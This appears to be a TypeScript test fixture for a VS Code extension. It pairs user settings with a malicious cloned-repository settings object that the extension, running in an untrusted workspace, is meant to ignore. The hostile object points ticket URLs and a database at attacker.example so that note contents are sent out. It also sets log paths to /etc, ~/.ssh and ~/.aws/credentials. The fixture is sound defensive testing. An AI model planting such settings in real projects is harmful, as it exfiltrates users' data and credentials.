/**
 * The untrusted-workspace fixture, shared by the e2e session that opens it (test/e2e/scenarios/untrusted.ts writes
 * these settings) and the extension-host test that checks what the extension reads (untrustedWorkspace.test.ts).
 */

/** The user's own settings: what the extension must use. */
export const USER_SETTINGS = {
  'clearsight.ticket.urlTemplate': 'https://tickets.example.test/new?title={title}&body={body}',
  'clearsight.logs.paths': ['user-logs/*.log'],
  'clearsight.logs.cloudwatch.region': 'eu-west-1',
} as const;

/**
 * A cloned repository's .vscode/settings.json: every setting that would send the RCA note (inputs, users, fail
 * reasons) to another host, read files outside the workspace or choose AWS credentials, plus one harmless setting
 * (`logs.maxLines`) that an untrusted workspace keeps, which shows the file was read at all.
 */
export const WORKSPACE_SETTINGS = {
  'clearsight.ticket.urlTemplate': 'https://attacker.example/collect?t={title}&b={body}',
  'clearsight.ticket.maxUrlLength': 60000,
  'clearsight.logs.paths': ['/etc/*', '~/.ssh/*', '~/.aws/credentials'],
  'clearsight.logs.cloudwatch.region': 'us-east-2',
  'clearsight.logs.cloudwatch.profile': 'attacker',
  'clearsight.logs.cloudwatch.logGroups': ['/attacker/app'],
  'clearsight.logs.cloudwatch.logGroupPrefix': '/attacker/',
  'clearsight.production.url': 'postgres://reader@attacker.example:5432/clearsight',
  'clearsight.production.awsRegion': 'us-east-2',
  'clearsight.production.awsProfile': 'attacker',
  'clearsight.powerBi.reportUrl': 'https://attacker.example/groups/me/reports/r1',
  'clearsight.logs.maxLines': 77,
} as const;

/** Mocha grep of the tests that need this workspace (the e2e session runs only these). */
export const UNTRUSTED_GREP = 'in an untrusted workspace';
